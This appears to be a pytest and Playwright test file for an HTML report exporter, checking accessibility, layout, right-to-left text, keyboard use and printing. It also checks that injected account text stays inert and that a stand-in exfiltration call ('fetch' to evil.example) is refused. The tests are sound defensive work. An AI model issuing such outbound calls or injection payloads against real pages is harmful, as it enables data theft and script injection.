"""The report in a real browser: at any width, in the light and in the dark, by keys, without its script, on paper; nothing leaves."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from time import process_time
from typing import Any

import pytest

from tests.factory import claim, document, dossier, finding
from tests.hostile import HOSTILE, PAYLOADS, hostile
from variorum import types
from variorum.export.html import Html
from variorum.types import Dossier

VIEWS = [(width, scheme) for width in (360, 1280) for scheme in ("light", "dark")]
STANDARDS = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
LOOK = """(() => {
  document.querySelectorAll('details').forEach(one => one.open = true);
  const dangerous = document.querySelectorAll('h1, script, style, img, iframe, form, link, base, video, math, object, foreignObject');
  const links = [...document.querySelectorAll('a')].map(one => one.getAttribute('href'));
  return [window.x ?? null, [...dangerous].map(one => one.tagName).sort(), links];
})()"""
OPEN_ALL = "document.querySelectorAll('details').forEach(one => { one.removeAttribute('name'); one.open = true })"


class Shown:
    """A page in a window of its own, with all that it asked for and complained of."""

    def __init__(self, window: Any, file: Path) -> None:
        self.file = file
        self.page = window.new_page()
        self.asked: list[str] = []
        self.complaints: list[str] = []
        window.on("request", lambda request: self.asked.append(request.url))
        self.page.on("console", lambda message: self.complaints.append(message.text))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("dialog", lambda dialog: (self.complaints.append(dialog.message), dialog.dismiss()))

    def show(self, whole: Dossier) -> None:
        self.file.write_text(Html().export(whole), encoding="utf-8")
        self.page.goto(self.file.as_uri(), wait_until="domcontentloaded")

    def focused(self) -> str:
        return self.page.evaluate("document.activeElement.closest('[data-stop]')?.id ?? ''")


Show = Callable[..., Shown]


@pytest.fixture
def show(browser: Any, tmp_path: Path) -> Iterator[Show]:
    """Opens the report of a dossier from a file."""
    windows = []

    def opened(whole: Dossier | None = None, *, width: int = 1280, scheme: str = "light", script: bool = True) -> Shown:
        windows.append(
            browser.new_context(
                viewport={"width": width, "height": 800}, color_scheme=scheme, java_script_enabled=script, reduced_motion="reduce"
            )
        )
        shown = Shown(windows[-1], tmp_path / "report.html")
        shown.show(whole or dossier())
        return shown

    yield opened
    for window in windows:
        window.close()


def many() -> Dossier:
    """Twenty accounts that answer fifteen questions in five ways."""
    accounts = [
        document("\n".join(f"Shed {n} held {n + place % 5 + 10} crates." for n in range(15)), outlet=f"The Post of Place {place}")
        for place in range(20)
    ]
    told = {
        (n, place): claim(one, f"{n + place % 5 + 10} crates.", low=n + place % 5 + 10, high=n + place % 5 + 10, best=n + place % 5 + 10)
        for n in range(15)
        for place, one in enumerate(accounts)
    }
    findings = tuple(
        finding(
            f"How many crates did shed {n} hold?", "disputed", {f"{n + r + 10}": [told[n, p] for p in range(r, 20, 5)] for r in range(5)}
        )
        for n in range(15)
    )
    return Dossier(types.Event("e", "Crates", None, None), tuple(accounts), tuple(told.values()), findings)


def far_and_near() -> Dossier:
    """One account written from right to left, one without blanks between its words."""
    right = document("أغلق العمدة العبارة يوم الاثنين.\n\nأصيب 14 راكبا.", outlet="الصباح", title="أغلق العمدة العبارة", language="ar")
    ideographs = document("市长星期一关闭了渡轮。\n\n十四名乘客受伤。" * 20, outlet="晨报", title="市长关闭渡轮", language="zh")
    claims = [claim(right, "14 راكبا"), claim(ideographs, "十四名乘客")]
    asked = finding("How many?", "compatible", {"14": claims[:1], "十四": claims[1:]}, reason="wording")
    return Dossier(types.Event("e", "渡轮 / العبارة", None, None), (right, ideographs), tuple(claims), (asked,))


# ---- to look at ---------------------------------------------------------------------------------


@pytest.mark.parametrize(("width", "scheme"), VIEWS)
def test_axe_finds_no_violation(show: Show, width: int, scheme: str) -> None:
    from axe_playwright_python.sync_playwright import Axe

    page = show(width=width, scheme=scheme).page
    page.evaluate(OPEN_ALL)
    found = Axe().run(page, options={"runOnly": STANDARDS}).response
    assert [(one["id"], one["nodes"][0]["html"]) for one in found["violations"]] == []
    assert len(found["passes"]) > 35


@pytest.mark.parametrize("width", [360, 800, 1280, 2560])
@pytest.mark.parametrize("make", [dossier, many, far_and_near, lambda: hostile("x" * 300)], ids=["plain", "many", "far", "long"])
def test_no_width_cuts_anything_off(show: Show, width: int, make: Callable[[], Dossier]) -> None:
    page = show(make(), width=width).page
    page.evaluate(OPEN_ALL)
    assert page.evaluate("document.documentElement.scrollWidth") <= width


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_ink_stands_out_from_paper(show: Show, scheme: str) -> None:
    page = show(scheme=scheme).page
    names = ["ink", "quiet", "link", "disputed", "compatible", "corroborated", "single-source"]
    colours = page.evaluate(
        "names => { const style = getComputedStyle(document.querySelector('.variorum'));"
        " return Object.fromEntries([...names, 'paper', 'mark'].map(name => [name, style.getPropertyValue('--' + name).trim()])) }",
        names,
    )
    assert {name: ratio for name in names if (ratio := contrast(colours[name], colours["paper"])) < 4.5} == {}
    assert contrast(colours["ink"], colours["mark"]) > 4.5


def contrast(one: str, other: str) -> float:
    """The contrast of two colours, as WCAG 2.2 defines it."""

    def luminance(colour: str) -> float:
        parts = [int(colour[place : place + 2], 16) / 255 for place in (1, 3, 5)]
        red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue

    low, high = sorted((luminance(one), luminance(other)))
    return (high + 0.05) / (low + 0.05)


def test_text_from_right_to_left_begins_at_the_right(show: Show) -> None:
    page = show(far_and_near()).page
    ways = page.evaluate("[...document.querySelectorAll('.text')].map(one => getComputedStyle(one).direction)")
    assert ways[:3] == ["rtl", "rtl", "ltr"]
    assert page.locator(".text").first.get_attribute("lang") == "ar"


def test_a_page_of_twenty_accounts_is_made_and_shown_within_a_second(show: Show) -> None:
    shown = show()
    whole = many()
    begun = process_time()
    page = Html().export(whole)
    assert process_time() - begun < 1
    shown.file.write_text(page, encoding="utf-8")
    # Time of the processor, for other programs may run beside this one.
    session = shown.page.context.new_cdp_session(shown.page)
    session.send("Performance.enable", {"timeDomain": "threadTicks"})
    before = spent(session)
    shown.page.goto(shown.file.as_uri())
    assert spent(session) - before < 1


def spent(session: Any) -> float:
    return next(one["value"] for one in session.send("Performance.getMetrics")["metrics"] if one["name"] == "TaskDuration")


def test_a_report_of_twenty_accounts_can_be_sent() -> None:
    assert len(Html().export(many()).encode()) < 3_000_000


# ---- to open ------------------------------------------------------------------------------------


@pytest.mark.parametrize("script", [True, False], ids=["script", "no script"])
def test_a_click_or_enter_opens_the_sentence_of_any_words(show: Show, script: bool) -> None:
    page = show(script=script).page
    answer = page.locator(".differing details.words").first
    assert not answer.locator("blockquote").is_visible()
    answer.locator("summary").click()
    assert answer.locator("blockquote mark").inner_text() == "At least 14 passengers"
    assert answer.locator("blockquote").inner_text().startswith("At least 14 passengers were hurt, according to the harbour police.")
    answer.locator("summary").press("Enter")
    assert not answer.locator("blockquote").is_visible()


@pytest.mark.parametrize("script", [True, False], ids=["script", "no script"])
def test_a_link_leads_to_words_inside_a_closed_list(show: Show, script: bool) -> None:
    page = show(many(), script=script).page
    entry = page.locator(".apparatus a").last
    goal = page.locator(entry.get_attribute("href") or "")
    entry.click()
    assert goal.is_visible()
    goal.locator("summary").first.click()
    goal.get_by_role("link", name="in the account").first.click()
    assert page.locator(".claim:target").is_visible()


def test_without_its_script_the_page_has_every_word(show: Show) -> None:
    plain = show(script=False)
    with_script = show().page
    with_script.evaluate(OPEN_ALL)
    assert plain.complaints == []
    assert plain.page.locator("body").text_content() == with_script.locator("body").text_content()
    assert not plain.page.locator(".ask-keys").is_visible()


def test_the_keys_walk_open_and_compare(show: Show) -> None:
    page = (shown := show()).page
    page.keyboard.press("n")
    first = shown.focused()
    assert page.locator(f"#{first}").get_attribute("class") == "finding disputed"
    page.keyboard.press("o")
    assert page.locator(f"#{first} blockquote").first.is_visible()
    page.keyboard.press("o")
    assert not page.locator(f"#{first} blockquote").first.is_visible()
    page.keyboard.press("j")
    second = shown.focused()
    assert second != first
    page.keyboard.press("k")
    assert shown.focused() == first
    page.keyboard.press("p")
    assert shown.focused() == first
    page.keyboard.press("s")
    assert page.locator(".pair[open]").count() == 1
    assert page.evaluate("document.activeElement.tagName") == "SUMMARY"
    page.keyboard.press("s")
    assert page.locator(".pair").nth(1).get_attribute("open") is not None


def test_the_help_opens_and_turns_the_keys_off(show: Show) -> None:
    page = (shown := show()).page
    page.keyboard.press("?")
    assert page.locator("dialog").is_visible()
    page.keyboard.press("j")
    assert shown.focused() == ""
    page.locator(".use-keys").uncheck()
    page.keyboard.press("Escape")
    assert not page.locator("dialog").is_visible()
    page.keyboard.press("j")
    assert shown.focused() == ""


def test_everything_is_reached_by_the_tab_key(show: Show) -> None:
    page = show().page
    reached = set()
    for _ in range(400):
        page.keyboard.press("Tab")
        at = page.evaluate("(() => { const all = [...document.querySelectorAll('*')]; return all.indexOf(document.activeElement) })()")
        if at in reached:
            break
        reached.add(at)
    seen = "one => one.checkVisibility({ visibilityProperty: true, contentVisibilityAuto: true })"
    there = page.evaluate(f"[...document.querySelectorAll('a[href], summary, button')].filter({seen}).length")
    assert len(reached) >= there


# ---- to print -----------------------------------------------------------------------------------


@pytest.mark.parametrize("script", [True, False], ids=["script", "no script"])
def test_on_paper_what_differs_is_open(show: Show, script: bool) -> None:
    page = show(script=script).page
    printed = page.pdf()
    assert printed.startswith(b"%PDF")
    assert len(re.findall(rb"/Type\s*/Page\b", printed)) >= 3
    page.emulate_media(media="print")
    shown = page.locator(".differing blockquote").first
    assert (shown.bounding_box() or {"height": 0})["height"] > 10
    assert not page.locator(".contents").is_visible()


# ---- and nothing else ---------------------------------------------------------------------------


def test_no_request_leaves(show: Show) -> None:
    shown = show()
    shown.page.evaluate(OPEN_ALL)
    shown.page.mouse.wheel(0, 20_000)
    assert {url.split(":")[0] for url in shown.asked} == {"file"}
    assert len(shown.asked) == 1
    assert shown.complaints == []
    refused = shown.page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'refused')")
    assert refused == "refused"


@pytest.mark.parametrize("block", range(4))
def test_what_an_account_carries_stays_inert(show: Show, block: int) -> None:
    carried = [*PAYLOADS, *(one for one in HOSTILE if not re.search("[\ud800-\udfff]", one))]
    assert len(carried) >= 60
    shown = show()
    for number, words in enumerate(carried[block::4], 2):
        shown.show(hostile(words))
        shown.page.keyboard.press("n")
        ran, elements, links = shown.page.evaluate(LOOK)
        assert (ran, elements) == (None, ["H1", "SCRIPT", "SCRIPT", "STYLE"]), words
        assert all(link.startswith(("#", "https://x.example/")) for link in links), words
        assert len(shown.asked) == number, words
        assert shown.complaints == [], words


def test_a_character_of_direction_turns_nothing_outside_its_words(show: Show) -> None:
    page = show(hostile("abc \u202edef")).page
    box = "one => { const at = one.getBoundingClientRect(); return at.left }"
    words = page.locator("#accounts .text").first
    assert words.evaluate("one => one.textContent") == "Start abc \u202edef end."
    controls = words.locator(".control")
    assert controls.first.evaluate("one => getComputedStyle(one, '::before').content") == '"U+202E"'
    after = words.evaluate(
        "one => { const walk = document.createTreeWalker(one, NodeFilter.SHOW_TEXT); const lefts = []; let node;"
        " while (node = walk.nextNode()) { const at = node.data.indexOf('def'); if (at < 0) continue;"
        " for (const offset of [0, 1, 2]) { const range = document.createRange(); range.setStart(node, at + offset);"
        " range.setEnd(node, at + offset + 1); lefts.push(range.getBoundingClientRect().left) } } return lefts }"
    )
    assert after == sorted(after)
    assert controls.first.evaluate(box) < after[0]
